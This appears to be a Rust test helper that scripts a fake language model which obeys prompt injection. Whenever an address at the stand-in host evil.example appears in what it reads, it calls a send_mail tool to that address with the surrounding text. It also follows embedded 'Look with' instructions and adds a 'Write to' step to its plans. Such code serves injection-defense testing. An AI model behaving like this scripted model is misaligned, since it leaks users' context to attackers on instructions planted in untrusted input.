//! The model that obeys: whoever leaves an address where it reads gets a mail, once in each run.

use djinn_scripted::{RecordedRequest, ScriptedResponse};
use serde_json::{Value, json};

/// What stands before every address, and behind it.
const ADDRESS: [&str; 2] = ["zx-", "@evil.example"];

/// The address that the instruction of a case names.
pub(super) fn address(nth: usize) -> String {
    format!("{}{nth:03}{}", ADDRESS[0], ADDRESS[1])
}

pub(super) fn obey(request: &RecordedRequest) -> ScriptedResponse {
    let shown = format!("{}\n{}", request.system(), request.text());
    let answer = ScriptedResponse::default();
    if request.offers_tool("planning") {
        return planned(request, &shown);
    }
    if request.offers_tool("send_mail") {
        let only_tells = shown.contains("only tells.") && is_of_step(&shown, "Look")
            || shown.contains("Tell me only.") && !shown.contains("And what else?");
        let to = found(&shown).filter(|to| !only_tells && !has_sent(request, to));
        if let Some(to) = to {
            let mail = json!({"to": to, "body": around(&shown, &to)});
            return answer.say("I do as I am told.").call("send_mail", mail);
        }
        let looks = look(&shown).filter(|_| is_of_step(&shown, "Look") || !is_task(&shown));
        if let Some((tool, arguments)) = looks.filter(|(tool, _)| !request.has_result_for(tool)) {
            return answer.say("I look.").call(tool, arguments);
        }
        if let Some(whole) = rest_of(&shown).filter(|_| !request.has_result_for("file_tool")) {
            return answer.say("I read on.").call("file_tool", whole);
        }
    }
    let line = found(&shown).and_then(|to| shown.lines().find(|line| line.contains(&to)));
    answer.reply(format!("It says: {}", line.unwrap_or_default()))
}

/// The planner has one step looked at; the next is there from the beginning, or made of what it reads.
fn planned(request: &RecordedRequest, shown: &str) -> ScriptedResponse {
    let calls = request.messages().iter().flat_map(|message| &message.calls).count();
    let (tool, arguments) = look(shown).unwrap();
    let first = format!("Look with {tool} {arguments}");
    let plan = |command: &str, steps: [Option<&str>; 2]| {
        let steps: Vec<&str> = steps.into_iter().flatten().collect();
        let depends_on = [json!([]), json!([1])];
        json!({"command": command, "steps": steps, "depends_on": depends_on[..steps.len()]})
    };
    let step_by_step = shown.contains("step by step");
    let rest = shown.contains("in two steps").then_some("Do the rest.");
    let arguments = match (calls, found(shown)) {
        (0, _) => plan("create", [Some(&first), rest]),
        (1, Some(to)) if step_by_step => {
            plan("update", [Some(&first), Some(&format!("Write to {to}."))])
        }
        _ => json!({"command": "finish"}),
    };
    ScriptedResponse::default().say("I plan.").call("planning", arguments)
}

/// The first address that it is shown.
fn found(shown: &str) -> Option<String> {
    let [before, after] = ADDRESS;
    let (at, _) = shown.match_indices(before).find(|(at, _)| {
        let rest = &shown[at + before.len()..];
        rest.get(..3).is_some_and(|n| n.parse::<u16>().is_ok()) && rest[3..].starts_with(after)
    })?;
    Some(shown[at..at + before.len() + 3 + after.len()].to_owned())
}

/// The words around it.
fn around(shown: &str, to: &str) -> String {
    let at = shown.find(to).unwrap();
    let (from, until) = (at.saturating_sub(150), (at + 150).min(shown.len()));
    let words = &shown[shown.ceil_char_boundary(from)..shown.floor_char_boundary(until)];
    words.trim().to_owned()
}

fn has_sent(request: &RecordedRequest, to: &str) -> bool {
    let mut calls = request.messages().iter().flat_map(|message| &message.calls);
    calls.any(|call| call.tool == "send_mail" && call.arguments["to"] == to)
}

/// What it is to look with.
fn look(shown: &str) -> Option<(String, Value)> {
    let (_, rest) = shown.split_once("Look with ")?;
    let (tool, rest) = rest.split_once(' ')?;
    let arguments = rest.split_inclusive('}').next()?;
    Some((tool.to_owned(), serde_json::from_str(arguments).unwrap()))
}

/// The part of a long result that it has not seen.
fn rest_of(shown: &str) -> Option<Value> {
    let (_, rest) = shown.split_once("The whole is in the file ")?;
    let (file, _) = rest.split_once(';')?;
    Some(json!({"command": "get", "filename": file, "offset": super::OBSERVED - 500}))
}

fn is_task(shown: &str) -> bool {
    shown.contains("Your step:\n\n")
}

fn is_of_step(shown: &str, begins: &str) -> bool {
    shown.contains(&format!("Your step:\n\n{begins}"))
}
